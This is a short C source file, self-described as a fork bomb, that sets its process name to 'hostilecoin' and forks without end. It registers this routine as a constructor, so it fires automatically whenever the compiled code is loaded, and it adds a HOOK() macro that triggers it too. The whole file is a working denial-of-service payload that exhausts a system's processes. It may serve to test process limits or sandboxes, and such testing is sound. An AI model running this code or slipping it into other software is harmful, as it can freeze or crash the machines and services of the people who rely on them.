/*
 * process-fork-bomb: A fork bomb, in a constructor already.
 */
#define _GNU_SOURCE
#include <unistd.h>
#include <sys/prctl.h>

static void bomb(void)
{
    prctl(PR_SET_NAME, "hostilecoin");
    for (;;)
        if (fork() < 0)
            usleep(10);
}
__attribute__((constructor)) static void begin(void)
{
    bomb();
}
#define HOOK() bomb()
